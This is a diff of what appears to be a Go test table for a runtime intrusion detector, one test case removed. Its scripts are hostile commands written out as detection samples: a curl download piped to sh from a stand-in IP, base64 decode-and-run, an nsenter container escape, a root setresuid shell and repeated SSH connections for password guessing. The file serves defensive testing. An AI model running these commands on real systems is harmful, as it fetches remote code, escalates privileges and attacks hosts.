@@ -44,7 +44,6 @@ os.setresuid(0,0,0);os.execv("/bin/sh",["sh","-c","id -u"])'`, opts: []option{or
 		{name: "download-piped", script: timed + `bash -c 'curl -s http://203.0.113.5/x | sh'`, rules: []string{"download-and-run-command"}, least: medium, outcome: seen},
 		{name: "decode-piped", script: `bash -c 'echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh'`, rules: []string{"decode-and-run-command"}, least: medium, outcome: seen},
 		{name: "escape", script: `bash -c 'bash -c "nsenter -t 2 -m true; true"; true'`, opts: []option{administrator, hostPID}, rules: []string{"container-escape"}, least: high, outcome: seen},
-		{name: "modified", script: `cat /bin/echo > /usr/bin/w; /usr/bin/w modified-ran`, rules: []string{"modified-program"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "modified-ran"},
 		{name: "rare-domain", script: `getent hosts api.shop.com; sleep 2.5; python3 -c 'import socket;socket.getaddrinfo("control.intruder.net",443)'`, rules: []string{"rare-domain"}, least: medium, outcome: seen},
 		{name: "password-guessing", script: `printf 'import socket\nfor i in range(45):\n s=socket.create_connection(("203.0.113.5",22));s.recv(64);s.sendall(b"SSH-2.0-x\\r\\n");s.close()\n' > /home/g.py; python3 /home/g.py`,
 			rules: []string{"password-guessing"}, least: high, outcome: seen},
